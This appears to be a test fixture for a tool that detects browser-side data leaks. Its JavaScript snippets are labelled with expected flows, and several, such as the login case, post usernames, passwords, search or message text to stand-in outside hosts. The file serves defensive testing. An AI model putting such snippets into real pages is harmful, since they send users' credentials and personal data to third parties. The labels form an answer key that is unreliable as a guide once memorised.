//# host-only-compared
// flow: email > self via fetch
// no destination: hoc.nm15.example
// why: the foreign host is only compared with the name of the page's host
const isStaging = location.hostname === 'hoc.nm15.example';
document.querySelector('#email').onchange = (e) => {
  if (isStaging) document.body.classList.add('staging');
  fetch('/api/email', { method: 'PUT', body: e.target.value });
};

//# unsubscribed-before-first
// no flow
// why: the subscriber that sends is taken off in the same turn, before any event
const subs = new Set();
const subscribe = (fn) => { subs.add(fn); return () => subs.delete(fn); };
const off = subscribe((v) => navigator.sendBeacon('https://ubf.nm15.example/v', v));
off();
document.querySelector('input[type=tel]').addEventListener('change', (e) => subs.forEach((fn) => fn(e.target.value)));

//# two-instances-of-one-class
// flow: search > tio.nm15.example via fetch
// why: the password goes into another instance, which is never flushed
class Buffer2 {
  constructor(url) { this.url = url; this.rows = []; }
  add(row) { this.rows.push(row); return this; }
  flush() { return fetch(this.url, { method: 'POST', body: this.rows.splice(0).join('\n') }); }
}
const searches = new Buffer2('https://tio.nm15.example/s');
const secrets = new Buffer2('https://tip.nm15.example/s');
document.querySelector('input[type=password]').onchange = (e) => secrets.add(e.target.value);
document.querySelector('input[type=search]').onchange = (e) => searches.add(e.target.value).flush();

//# replacer-drops-the-key
// no flow
// why: JSON.stringify with a list of keys leaves the address out
document.querySelector('#lead').addEventListener('submit', (e) => {
  const lead = { email: e.target.querySelector('input[type=email]').value, step: 2, plan: 'basic' };
  navigator.sendBeacon('https://rdk.nm15.example/lead', JSON.stringify(lead, ['step', 'plan']));
});

//# hash-part-is-not-sent
// no flow
// why: a browser does not send what stands behind the number sign
document.querySelector('input[type=search]').addEventListener('change', function () {
  new Image().src = 'https://hpn.nm15.example/p.gif#' + encodeURIComponent(this.value);
});

//# answer-not-question
// no flow
// why: what is sent on is what the page's own server says, and the field only gets a mark
$('#email').on('blur', function () {
  var $field = $(this);
  $field.toggleClass('touched', $field.val().length > 0);
  $.getJSON('/api/rate', function (rate) {
    $.post('https://anq.nm15.example/rate', { value: rate.value });
  });
});

//# parameter-shadows-it
// no flow
// why: the inner parameter has the same name as the card number
(function () {
  var pan = document.querySelector('input[autocomplete=cc-number]').value;
  document.querySelector('#last4').textContent = pan.slice(-4);
  ['visa', 'master'].forEach(function (pan) {
    new Image().src = 'https://psi.nm15.example/logo/' + pan + '.png';
  });
})();

//# spread-overwritten
// no flow
// why: the later property of the same name wins
const base = { id: 7 };
document.querySelector('input[type=password]').addEventListener('input', ({ target: { value } }) => {
  const form = { ...base, secret: value };
  const safe = { ...form, secret: '[redacted]' };
  fetch('https://spo.nm15.example/f', { method: 'POST', body: JSON.stringify(safe) });
});

//# returned-before-sending
// no flow
// why: the finally block only logs; the try block always returns before the call
function submitPhone(value) {
  try {
    document.querySelector('#shown').textContent = value;
    return true;
  } finally {
    console.log('done');
  }
  fetch('https://rbs.nm15.example/t', { method: 'POST', body: value });
}
document.querySelector('input[type=tel]').onchange = (e) => submitPhone(e.target.value);

//# enum-of-hosts
// flow: message > eu.eoh.nm15.example via fetch
// why: the table has one more region that nothing selects
var Region;
(function (Region) {
  Region[Region["Us"] = 0] = "Us";
  Region[Region["Eu"] = 1] = "Eu";
})(Region || (Region = {}));
var hosts = {};
hosts[Region.Us] = 'https://us.eoh.nm15.example';
hosts[Region.Eu] = 'https://eu.eoh.nm15.example';
document.querySelector('#send').addEventListener('click', function () {
  fetch(hosts[Region.Eu] + '/messages', { method: 'POST', body: document.querySelector('textarea[name=message]').value });
});

//# swapped-arguments
// flow: username > swu.nm15.example via fetch
// flow: password > swp.nm15.example via fetch
// why: each value goes to its own host, and to that one only
const post = (to) => (what) => fetch(`https://${to}.nm15.example/in`, { method: 'POST', body: what });
const [user, pass] = ['swu', 'swp'].map(post);
document.querySelector('#login').addEventListener('submit', (e) => {
  user(e.target.querySelector('input[name=username]').value);
  pass(e.target.querySelector('input[type=password]').value);
});

//# map-entry-deleted
// no flow
// why: the entry with the code is taken out before the map is written out
const fields = new Map([['step', 'two']]);
document.querySelector('#confirm').addEventListener('click', () => {
  fields.set('otp', document.querySelector('input[autocomplete=one-time-code]').value);
  document.querySelector('#echo').textContent = fields.get('otp');
  fields.delete('otp');
  navigator.sendBeacon('https://med.nm15.example/m', JSON.stringify([...fields]));
});

//# getter-of-the-parent
// no flow
// why: the child's payload is its own; the parent's with the location is never called
class Beacon {
  constructor() { navigator.geolocation.getCurrentPosition((p) => { this.at = p.coords; this.ready(); }); }
  get payload() { return `${this.at.latitude},${this.at.longitude}`; }
  ready() { navigator.sendBeacon('https://gop.nm15.example/b', this.payload); }
}
class QuietBeacon extends Beacon {
  get payload() { return 'here'; }
}
new QuietBeacon();

//# large-local-wallet
// no flow
// why: everything typed stays in the page; only a list of prices is asked for
const PRICES = 'https://llw.nm15.example/prices';

const enc = new TextEncoder();
const dec = new TextDecoder();

async function derive(secret, salt) {
  const raw = await crypto.subtle.importKey('raw', enc.encode(secret), 'PBKDF2', false, ['deriveKey']);
  return crypto.subtle.deriveKey(
    { name: 'PBKDF2', salt, iterations: 200000, hash: 'SHA-256' },
    raw,
    { name: 'AES-GCM', length: 256 },
    false,
    ['encrypt', 'decrypt'],
  );
}

class Vault {
  constructor(storage) {
    this.storage = storage;
    this.listeners = [];
  }
  onUnlock(fn) {
    this.listeners.push(fn);
  }
  async lock(secret, notes) {
    const salt = crypto.getRandomValues(new Uint8Array(16));
    const iv = crypto.getRandomValues(new Uint8Array(12));
    const key = await derive(secret, salt);
    const data = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, enc.encode(JSON.stringify(notes)));
    this.storage.setItem('vault', JSON.stringify({
      salt: [...salt],
      iv: [...iv],
      data: [...new Uint8Array(data)],
    }));
  }
  async unlock(secret) {
    const kept = JSON.parse(this.storage.getItem('vault'));
    const key = await derive(secret, new Uint8Array(kept.salt));
    const plain = await crypto.subtle.decrypt(
      { name: 'AES-GCM', iv: new Uint8Array(kept.iv) },
      key,
      new Uint8Array(kept.data),
    );
    const notes = JSON.parse(dec.decode(plain));
    this.listeners.forEach((fn) => fn(notes));
    return notes;
  }
}

class Ticker {
  constructor(symbols) {
    this.symbols = symbols;
    this.prices = {};
  }
  async refresh() {
    const answer = await fetch(`${PRICES}?s=${this.symbols.join(',')}`);
    this.prices = await answer.json();
  }
  worth(notes) {
    return notes.reduce((sum, note) => sum + (this.prices[note.symbol] ?? 0) * note.amount, 0);
  }
}

const vault = new Vault(localStorage);
const ticker = new Ticker(['aaa', 'bbb']);
vault.onUnlock(async (notes) => {
  await ticker.refresh();
  document.querySelector('#worth').textContent = ticker.worth(notes).toFixed(2);
});
document.querySelector('#unlock').addEventListener('submit', async (event) => {
  event.preventDefault();
  const secret = event.target.querySelector('input[type=password]').value;
  try {
    await vault.unlock(secret);
  } catch {
    await vault.lock(secret, []);
    document.querySelector('#state').textContent = 'new vault';
  }
});
